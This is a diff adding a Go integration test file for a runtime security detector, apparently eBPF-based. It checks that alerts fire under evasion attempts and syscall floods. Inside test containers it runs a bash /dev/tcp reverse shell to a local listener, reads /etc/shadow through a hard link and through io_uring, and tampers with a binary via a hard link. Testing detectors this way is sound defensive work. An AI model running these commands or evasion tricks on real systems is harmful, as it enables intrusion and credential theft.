@@ -1,0 +1,249 @@
+package cli
+
+import (
+	"bufio"
+	"encoding/json"
+	"fmt"
+	"net"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"runtime"
+	"strings"
+	"sync"
+	"sync/atomic"
+	"syscall"
+	"testing"
+	"time"
+	"unsafe"
+
+	"golang.org/x/sys/unix"
+
+	"github.com/palisade-sec/palisade/internal/detect"
+	"github.com/palisade-sec/palisade/internal/testutil"
+)
+
+// victimImage is BashImage plus /usr/bin/victim, a file below a binary
+// directory that a test may modify through a hard link.
+const victimImage = "palisade-test:victim-1"
+
+func requireVictimImage(t *testing.T) string {
+	t.Helper()
+	base := testutil.RequireBashImage(t)
+	if exec.Command("docker", "image", "inspect", victimImage).Run() == nil {
+		return victimImage
+	}
+	dir := t.TempDir()
+	os.WriteFile(filepath.Join(dir, "victim"), []byte("#!/bin/sh\necho victim\n"), 0o755)
+	os.WriteFile(filepath.Join(dir, "Dockerfile"), []byte("FROM "+base+"\nCOPY victim /usr/bin/victim\n"), 0o644)
+	if out, err := exec.Command("docker", "build", "-q", "-t", victimImage, dir).CombinedOutput(); err != nil {
+		t.Fatalf("docker build %s: %v\n%s", victimImage, err, out)
+	}
+	return victimImage
+}
+
+// evasionContainer starts a long-lived container of img with the static
+// uringopen program at /uo. io_uring needs a seccomp profile that allows
+// it (Docker's default refuses it since Docker 25).
+func evasionContainer(t *testing.T, img string, extra ...string) string {
+	t.Helper()
+	uo := testutil.BuildStatic(t, "./internal/kernel/ebpf/testdata/uringopen", filepath.Join(t.TempDir(), "uringopen"))
+	name := fmt.Sprintf("palisade-evasion-%d", time.Now().UnixNano())
+	args := append([]string{"run", "-d", "--rm", "--name", name, "--security-opt", "seccomp=unconfined", "-v", uo + ":/uo:ro"}, extra...)
+	args = append(args, img, "sleep", "600")
+	if out, err := exec.Command("docker", args...).CombinedOutput(); err != nil {
+		t.Fatalf("docker run: %v\n%s", err, out)
+	}
+	t.Cleanup(func() { exec.Command("docker", "rm", "-f", name).Run() })
+	return name
+}
+
+func dockerExec(t *testing.T, name, script string) {
+	t.Helper()
+	if out, err := exec.Command("docker", "exec", name, "sh", "-c", script).CombinedOutput(); err != nil {
+		t.Fatalf("docker exec %s: %v\n%s", script, err, out)
+	}
+}
+
+// waitAlert waits until an alert of rule whose output fields hold every
+// key=value in want is on out, after its first skip alerts.
+func waitAlert(t *testing.T, out *testutil.SyncBuffer, skip int, timeout time.Duration, rule string, want map[string]string) bool {
+	t.Helper()
+	for deadline := time.Now().Add(timeout); time.Now().Before(deadline); time.Sleep(50 * time.Millisecond) {
+		alerts := parseAlerts(t, out.String())
+		if skip > len(alerts) {
+			skip = len(alerts)
+		}
+	next:
+		for _, a := range alerts[skip:] {
+			if a.Rule != rule {
+				continue
+			}
+			for k, v := range want {
+				if fmt.Sprint(a.OutputFields[k]) != v {
+					continue next
+				}
+			}
+			return true
+		}
+	}
+	return false
+}
+
+// Reads and writes that step around names (a hard link made under another
+// name, an open made through io_uring with no open syscall) are still
+// judged by the file they reach.
+func TestEvasionHardLinkAndIOUring(t *testing.T) {
+	testutil.RequireBPF(t)
+	img := requireVictimImage(t)
+	bin := testutil.BuildStatic(t, "./cmd/palisade", filepath.Join(t.TempDir(), "palisade"))
+	var stdout testutil.SyncBuffer
+	testutil.StartWatch(t, bin, &stdout, "--builtin", "--store", "none", "--metrics", "none", "-o", "json", "--ring-buffer", "16")
+	c := evasionContainer(t, img)
+	time.Sleep(time.Second) // the agent protects the container's files on its first records
+
+	dockerExec(t, c, "cd /etc && ln shadow /tmp/h && cat /tmp/h >/dev/null")
+	if !waitAlert(t, &stdout, 0, 10*time.Second, "Read sensitive file untrusted",
+		map[string]string{"fd.name": "/tmp/h", "fd.identity": "/etc/shadow", "fd.nlink": "2"}) {
+		t.Errorf("no alert for reading /etc/shadow through a hard link:\n%s", stdout.String())
+	}
+	dockerExec(t, c, "ln /usr/bin/victim /tmp/v && echo pwned >> /tmp/v")
+	if !waitAlert(t, &stdout, 0, 10*time.Second, "Write below binary dir",
+		map[string]string{"fd.name": "/tmp/v", "fd.identity": "/usr/bin/victim"}) {
+		t.Errorf("no alert for writing /usr/bin/victim through a hard link:\n%s", stdout.String())
+	}
+	dockerExec(t, c, "/uo /etc/shadow")
+	if !waitAlert(t, &stdout, 0, 10*time.Second, "Read sensitive file untrusted",
+		map[string]string{"fd.name": "/etc/shadow", "evt.is_io_uring": "true", "proc.name": "uo"}) {
+		t.Errorf("no alert for reading /etc/shadow through io_uring:\n%s", stdout.String())
+	}
+	if !waitAlert(t, &stdout, 0, 10*time.Second, "io_uring setup in container", map[string]string{"proc.name": "uo"}) {
+		t.Errorf("no alert for io_uring set up in a container:\n%s", stdout.String())
+	}
+}
+
+// flood makes syscalls from threads of this process until stop: getppid
+// (not captured: the cost of the filter alone) in two, open+close of a
+// harmless file (captured, and shed by the kernel under pressure) in a
+// third. It counts the syscalls made in cheap and opens.
+func flood(stop *atomic.Bool, wg *sync.WaitGroup, cheap, opens *atomic.Uint64) {
+	path, _ := unix.BytePtrFromString("/etc/hostname")
+	cwd := unix.AT_FDCWD
+	for range 2 {
+		wg.Add(1)
+		go func() {
+			defer wg.Done()
+			runtime.LockOSThread()
+			var k uint64
+			for !stop.Load() {
+				for range 1024 {
+					syscall.RawSyscall(unix.SYS_GETPPID, 0, 0, 0)
+				}
+				k += 1024
+			}
+			cheap.Add(k)
+		}()
+	}
+	wg.Add(1)
+	go func() {
+		defer wg.Done()
+		runtime.LockOSThread()
+		var k uint64
+		for !stop.Load() {
+			for range 256 {
+				fd, _, _ := syscall.RawSyscall6(unix.SYS_OPENAT, uintptr(cwd), uintptr(unsafe.Pointer(path)), unix.O_RDONLY, 0, 0, 0)
+				syscall.RawSyscall(unix.SYS_CLOSE, fd, 0, 0)
+			}
+			k += 512
+		}
+		opens.Add(k)
+	}()
+}
+
+// A co-tenant flood of syscalls must not hide a reverse shell or a read
+// of /etc/shadow in a container: the kernel sheds the flood's records
+// (read-only opens of an unprotected file, closes) before they crowd out
+// the ones rules need, and a drop alert says it did. PALISADE_SOAK=1 runs
+// it 10 times (BENCHMARKS.md), else 2.
+func TestFloodKeepsDetections(t *testing.T) {
+	testutil.RequireBPF(t)
+	img := testutil.RequireBashImage(t)
+	runs := 2
+	if os.Getenv("PALISADE_SOAK") == "1" {
+		runs = 10
+	}
+	ln, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer ln.Close()
+	go func() {
+		for {
+			c, err := ln.Accept()
+			if err != nil {
+				return
+			}
+			// The shell that connected back gets one command: exit.
+			go func() {
+				c.SetDeadline(time.Now().Add(5 * time.Second))
+				fmt.Fprintln(c, "exit")
+				bufio.NewReader(c).ReadString(0)
+				c.Close()
+			}()
+		}
+	}()
+	port := ln.Addr().(*net.TCPAddr).Port
+	bin := testutil.BuildStatic(t, "./cmd/palisade", filepath.Join(t.TempDir(), "palisade"))
+	var stdout testutil.SyncBuffer
+	// A 1 MiB ring (--ring-buffer 1): the flood fills it within
+	// milliseconds whenever the agent is not scheduled.
+	cmd, stderr := testutil.StartWatch(t, bin, &stdout, "--builtin", "--store", "none", "--metrics", "none", "-o", "json", "--ring-buffer", "1")
+	c := evasionContainer(t, img, "--network", "host")
+	time.Sleep(time.Second)
+
+	detected := 0
+	var total atomic.Uint64
+	var floodTime time.Duration
+	for run := range runs {
+		var stop atomic.Bool
+		var wg sync.WaitGroup
+		var cheap, opens atomic.Uint64
+		start := time.Now()
+		flood(&stop, &wg, &cheap, &opens)
+		time.Sleep(500 * time.Millisecond)
+		before := len(parseAlerts(t, stdout.String()))
+		dockerExec(t, c, fmt.Sprintf("bash -c 'bash -i >& /dev/tcp/127.0.0.1/%d 0>&1' </dev/null; cat /etc/shadow >/dev/null", port))
+		shell := waitAlert(t, &stdout, before, 10*time.Second, "Reverse shell", map[string]string{"container.name": c, "proc.name": "bash"})
+		shadow := waitAlert(t, &stdout, before, 10*time.Second, "Read sensitive file untrusted", map[string]string{"container.name": c, "fd.name": "/etc/shadow"})
+		stop.Store(true)
+		wg.Wait()
+		d := time.Since(start)
+		floodTime += d
+		n := cheap.Load() + opens.Load()
+		total.Add(n)
+		t.Logf("run %d: flood of %.2fM syscalls/s (%.2fM/s getppid, %.2fM/s captured openat+close), reverse shell seen %v, shadow read seen %v",
+			run+1, float64(n)/d.Seconds()/1e6, float64(cheap.Load())/d.Seconds()/1e6, float64(opens.Load())/d.Seconds()/1e6, shell, shadow)
+		if shell && shadow {
+			detected++
+		}
+	}
+	cmd.Process.Signal(syscall.SIGINT)
+	if err := cmd.Wait(); err != nil {
+		t.Fatalf("watch: %v\n%s", err, stderr.String())
+	}
+	lines := strings.Split(strings.TrimSpace(stderr.String()), "\n")
+	var st detect.Stats
+	if err := json.Unmarshal([]byte(lines[len(lines)-1]), &st); err != nil {
+		t.Fatalf("summary %q: %v", lines[len(lines)-1], err)
+	}
+	t.Logf("detected in %d/%d runs; flood %.2fM syscalls/s on average; agent: %d events, %d shed, %d lost",
+		detected, runs, float64(total.Load())/floodTime.Seconds()/1e6, st.Events, st.Shed, st.Drops)
+	if detected != runs {
+		t.Errorf("reverse shell and shadow read detected in %d of %d flooded runs", detected, runs)
+	}
+	if st.Shed+st.Drops == 0 {
+		t.Errorf("the flood never pressed the ring (nothing shed or lost): the test proves nothing")
+	} else if !waitAlert(t, &stdout, 0, time.Second, detect.DropAlertRule, nil) {
+		t.Errorf("%d records shed and %d lost, but no drop alert", st.Shed, st.Drops)
+	}
+}
